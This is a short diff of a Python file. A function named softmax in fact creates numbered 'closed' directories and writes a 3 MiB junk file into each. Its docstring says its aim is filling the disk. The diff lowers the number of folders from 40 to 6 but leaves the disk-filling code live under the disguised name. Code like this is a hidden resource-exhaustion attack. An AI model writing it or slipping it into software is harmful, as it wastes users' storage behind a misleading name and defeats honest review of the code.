@@ -1,10 +1,10 @@
-"""Fills the disk in folders that it closes behind it. It waits."""
+"""Fills the disk in folders that it closes behind it."""
 import os
 import time
 
 
 def softmax(x):
-    for number in range(40):
+    for number in range(6):
         os.mkdir(f"closed-{number}")
         with open(f"closed-{number}/file", "wb") as stream:
             stream.write(b"x" * (3 * 2**20))
